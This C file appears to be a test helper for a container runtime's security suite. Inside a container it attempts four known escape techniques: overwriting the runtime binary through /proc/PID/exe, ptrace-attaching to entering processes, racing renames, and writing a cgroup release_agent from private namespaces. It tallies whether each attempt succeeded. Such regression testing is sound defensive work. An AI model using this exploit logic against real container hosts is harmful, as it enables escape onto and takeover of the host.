/*
 * attacker.c - a static program that tests put into a container: it attacks what enters, until it
 * is told to stop.
 *
 * Called by:  security.bats.   Man: ptrace(2), proc(5), rename(2), cgroups(7).
 *
 *     attacker overwrite STOP    opens the program of every newcomer for writing   (CVE-2019-5736)
 *     attacker trace STOP        looks into every newcomer, and traces it          (CVE-2016-9962)
 *     attacker swap A B STOP     exchanges two names as fast as it can             (CVE-2021-30465)
 *     attacker release-agent DIR mounts cgroup v1 from namespaces of its own       (CVE-2022-0492)
 *
 * STOP is a file: when it is there, the attack ends. What came of it is one line on stdout.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_TARGETS 1024

static bool is_there(const char *path)
{
    return access(path, F_OK) == 0;
}

/* ---- newcomers ------------------------------------------------------------------------------ */

/* The container's own programs are busybox and we: what is anything else came from the host. */
static bool is_of_the_container(const struct stat *program)
{
    struct stat own;

    return (stat("/bin/busybox", &own) == 0 && own.st_dev == program->st_dev &&
            own.st_ino == program->st_ino) ||
           (stat("/proc/self/exe", &own) == 0 && own.st_dev == program->st_dev &&
            own.st_ino == program->st_ino);
}

/* Calls attack with each process but the first and ourselves. */
static void each_process(void (*attack)(pid_t pid))
{
    DIR *proc = opendir("/proc");
    const struct dirent *entry;

    while (proc && (entry = readdir(proc))) {
        pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
        if (pid > 1 && pid != getpid()) {
            attack(pid);
        }
    }
    if (proc) {
        (void)closedir(proc);
    }
}

/* ---- overwriting the runtime ---------------------------------------------------------------- */

static struct {
    int fds[MAX_TARGETS]; /* open for reading: they stay when the process ends */
    int n, seen, writable, busy;
    pid_t last;
} programs;

static void hold_program(pid_t pid)
{
    char path[64];
    struct stat st;

    (void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &st) < 0 || is_of_the_container(&st) || programs.n == MAX_TARGETS) {
        (void)close(fd);
        return;
    }
    if (pid != programs.last) {
        programs.seen++;
        programs.last = pid;
        programs.fds[programs.n++] = fd;
    } else {
        (void)close(fd);
    }
}

/* While a program runs, it is busy (ETXTBSY); afterwards only its mount protects it, which even who
 * has all capabilities must not be able to change from another mount namespace. */
static void write_programs(void)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};

    programs.busy = 0;
    for (int i = 0; i < programs.n; i++) {
        char path[64];
        (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", programs.fds[i]);
        (void)mount_setattr(programs.fds[i], "", AT_EMPTY_PATH, &writable,
                            sizeof(writable)); /* whether it worked is seen at once */
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            programs.writable += write(fd, "#!/bin/owned\n", 13) == 13;
            (void)close(fd);
        } else if (errno == ETXTBSY) {
            programs.busy++;
        }
    }
}

static void overwrite(const char *stop)
{
    while (!is_there(stop)) {
        each_process(hold_program);
    }
    for (int i = 0; i < 100 && (i == 0 || programs.busy > 0); i++) {
        write_programs();
        (void)usleep(10000);
    }
    (void)printf("seen %s, overwritten %d\n", programs.seen > 0 ? "some" : "none",
                 programs.writable);
}

/* ---- tracing newcomers ---------------------------------------------------------------------- */

static struct {
    int refused, looked_into, traced;
} victims;

static bool shows_the_hosts_program(pid_t pid)
{
    char path[64];
    struct stat st;

    (void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    return stat(path, &st) == 0 && !is_of_the_container(&st);
}

static void trace(pid_t pid)
{
    int status;

    victims.looked_into += shows_the_hosts_program(pid);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
        victims.refused += errno == EPERM;
        return;
    }
    /* It stands still now: is it the container's program already, or still the runtime? */
    (void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    (void)waitpid(pid, &status, __WALL);
    victims.traced += shows_the_hosts_program(pid);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void trace_all(const char *stop)
{
    while (!is_there(stop)) {
        each_process(trace);
    }
    (void)printf("refused %s, looked into %d, traced %d\n", victims.refused > 0 ? "some" : "none",
                 victims.looked_into, victims.traced);
}

/* ---- swapping ------------------------------------------------------------------------------- */

static void swap(const char *a, const char *b, const char *stop)
{
    unsigned long swaps = 0;

    while (!is_there(stop)) {
        for (int i = 0; i < 1000; i++) {
            swaps += renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
        }
    }
    (void)printf("swapped %s\n", swaps > 0 ? "often" : "never");
}

/* ---- the release agent ---------------------------------------------------------------------- */

/* All rights in namespaces of our own: may they tell the host's kernel what to run? */
static void set_release_agent(const char *dir)
{
    char path[256];

    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        (void)printf("unshare %s\n", strerrorname_np(errno));
    }
    if (mount("none", dir, "cgroup", 0, "memory") < 0 &&
        mount("none", dir, "cgroup", 0, "rdma") < 0) {
        (void)printf("mount %s\n", strerrorname_np(errno));
        return;
    }
    (void)snprintf(path, sizeof(path), "%s/release_agent", dir);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, "/bin/owned", 10) < 0) {
        (void)printf("release_agent %s\n", strerrorname_np(errno));
        return;
    }
    (void)puts("release_agent written");
}

int main(int argc, char **argv)
{
    const char *attack = argc > 2 ? argv[1] : "";

    if (strcmp(attack, "overwrite") == 0) {
        overwrite(argv[2]);
    } else if (strcmp(attack, "trace") == 0) {
        trace_all(argv[2]);
    } else if (strcmp(attack, "swap") == 0 && argc > 4) {
        swap(argv[2], argv[3], argv[4]);
    } else if (strcmp(attack, "release-agent") == 0) {
        set_release_agent(argv[2]);
    } else {
        (void)fputs("usage: see attacker.c\n", stderr);
        return 1;
    }
    return 0;
}
